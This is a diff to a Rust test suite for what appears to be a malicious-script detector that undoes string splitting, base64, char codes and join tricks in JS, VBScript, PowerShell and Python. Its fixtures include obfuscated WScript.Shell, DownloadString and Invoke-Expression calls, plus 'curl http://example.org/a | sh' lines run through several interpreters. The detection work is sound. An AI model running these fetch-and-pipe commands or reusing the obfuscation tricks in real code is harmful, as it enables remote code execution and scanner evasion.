@@ -46,7 +46,7 @@ fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
             script.hidden_calls = ["wscript.shell", "shell"]
             script.calls = ["activexobject", "string.fromcharcode", "unescape(", "eval", "fromcharcode"]
             layer.hidden-calls calls=List(["wscript.shell", "shell"])
-            put-together.js: var a = "WScript.Shell"; var b = new ActiveXObject(a); eval("http://example.org"); // it's 'a' + 'b'
+            put-together.js: var a = "WScript.Shell"; var b = new ActiveXObject("WScript.Shell"); eval("http://example.org"); // it's 'a' + 'b'
         "#]],
     );
     check(
@@ -58,7 +58,7 @@ fn letters_by_their_number_and_texts_in_pieces_are_put_together() {
             layer.hidden-calls calls=List(["adodb.stream"])
             put-together.vbs: Set s = Create" 'no
             x = "ADODB.Stream"
-            CreateObject(x) ' a "+" b
+            CreateObject("ADODB.Stream") ' a "+" b
             MsgBox "a ""b""c"
         "#]],
     );
@@ -271,5 +271,120 @@ fn scripts_that_would_grow_or_never_end_end() {
         let begun = std::time::Instant::now();
         named("x.js", chain.as_bytes());
         assert!(begun.elapsed().as_secs() < 20, "{start}: {:?}", begun.elapsed());
+    }
+}
+
+#[test]
+fn names_that_stand_for_a_text_are_put_in() {
+    check(
+        Kind::VbScript,
+        "a=\"WScr\"\r\nb=\"ipt.Shell\"\r\nSet o=CreateObject(a & b)\r\ns=\"adodb\"\r\ns=s & \".stream\"\r\nIf a = \"x\" Then MsgBox s\r\n",
+        expect![[r#"
+            script.hidden_calls = ["wscript.shell"]
+            script.calls = ["createobject(", "shell"]
+            layer.hidden-calls calls=List(["wscript.shell"])
+            put-together.vbs: a="WScr"
+            b="ipt.Shell"
+            Set o=CreateObject("WScript.Shell")
+            s="adodb"
+            s=s & ".stream"
+            If "WScr" = "x" Then MsgBox s
+
+        "#]],
+    );
+    check(
+        Kind::PowerShell,
+        "$a='Down'; $b = 'loadString'\n(New-Object Net.WebClient).($a+$b).Invoke('x')\n$c += 'iex'; foreach ($d in $a) { $d + 'x' }",
+        expect![[r#"
+            script.hidden_calls = ["downloadstring"]
+            script.calls = ["net.webclient", "new-object", "iex"]
+            layer.hidden-calls calls=List(["downloadstring"])
+            put-together.ps1: $a='Down'; $b = 'loadString'
+            (New-Object Net.WebClient)."DownloadString".Invoke('x')
+            $c += 'iex'; foreach ($d in "Down") { $d + 'x' }
+        "#]],
+    );
+    check(
+        Kind::JavaScript,
+        "var _0x=[\"WScript.Shell\",\"Run\"];var k='a';k+='b';new ActiveXObject(_0x[0])[_0x[0x1]](k); f({k: 1}); x._0x[0]; function g(_1) { var _1 = 'x'; return _1; }",
+        expect![[r#"
+            script.calls = ["activexobject", "wscript.shell", "run", "shell"]
+        "#]],
+    );
+    check(
+        Kind::Python,
+        "a = 'os.sys'\nb = a + 'tem'\nfor a in c: pass\nd = 'sub'\ne = d + 'process.run'\n",
+        expect![[r#"
+            script.hidden_calls = ["subprocess."]
+            script.calls = ["run"]
+            layer.hidden-calls calls=List(["subprocess."])
+            put-together.py: a = 'os.sys'
+            b = a + 'tem'
+            for a in c: pass
+            d = 'sub'
+            e = "subprocess.run"
+
+        "#]],
+    );
+}
+
+#[test]
+fn calls_that_decode_join_and_choose_are_undone() {
+    check(
+        Kind::JavaScript,
+        &format!(
+            "eval(atob(\"{}\")); x = ['hell','.S','WScript'].reverse().join(''); y = ['a','regsvr32'][1]; z = 'a-b'.split('-').join('')",
+            base64(b"var o = new ActiveXObject(\"adodb.stream\");")
+        ),
+        expect![[r#"
+            script.hidden_calls = ["activexobject", "wscript.shell", "adodb.stream", "shell"]
+            script.calls = ["regsvr32", "atob(", "eval"]
+            script.blobs = 1
+            layer.hidden-calls calls=List(["activexobject", "wscript.shell", "adodb.stream", "shell"])
+            put-together.js: eval("var o = new ActiveXObject(\"adodb.stream\");"); x = "WScript.Shell"; y = "regsvr32"; z = "ab"
+            blob-1.js: var o = new ActiveXObject("adodb.stream");
+        "#]],
+    );
+    check(
+        Kind::VbScript,
+        "Execute(Replace(\"W$Scri$pt.S$hell\",\"$\",\"\"))\r\nx = Join(Array(\"adodb\",\"stream\"),\".\")\r\n",
+        expect![[r#"
+            script.hidden_calls = ["wscript.shell", "adodb.stream", "shell"]
+            script.calls = ["execute"]
+            layer.hidden-calls calls=List(["wscript.shell", "adodb.stream", "shell"])
+            put-together.vbs: Execute("WScript.Shell")
+            x = "adodb.stream"
+
+        "#]],
+    );
+    check(
+        Kind::PowerShell,
+        &format!(
+            "& ([char[]](105,101,120) -join ''); -join [char[]]@(0x69,101,120); [string]::join('',('down','loadfile')); [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}'))",
+            wide_base64("Invoke-Expression")
+        ),
+        expect![[r#"
+            script.hidden_calls = ["invoke-expression", "downloadfile", "iex"]
+            script.calls = ["frombase64string"]
+            script.blobs = 1
+            layer.hidden-calls calls=List(["invoke-expression", "downloadfile", "iex"])
+            put-together.ps1: & "iex"; "iex"; "downloadfile"; "Invoke-Expression"
+            blob-1.ps1: Invoke-Expression
+        "#]],
+    );
+}
+
+#[test]
+fn scripts_of_any_interpreter_are_read() {
+    for (interpreter, source) in [
+        ("/usr/bin/lua", "os.execute(\"curl http://example.org/a | sh\")"),
+        ("/usr/bin/tclsh", "exec sh -c \"curl http://example.org/a | sh\""),
+        ("/usr/bin/awk -f", "BEGIN { system(\"curl http://example.org/a | sh\") }"),
+        ("/opt/else/interpreter", "run \"curl http://example.org/a | sh\""),
+    ] {
+        let part = named("x", format!("#!{interpreter}\n{source}\n").as_bytes());
+        let told = told(&part, "script");
+        assert!(told.contains("fetched-and-piped-to-shell"), "{interpreter}: {told}");
+        assert!(told.contains("http://example.org/a"), "{interpreter}: {told}");
     }
 }
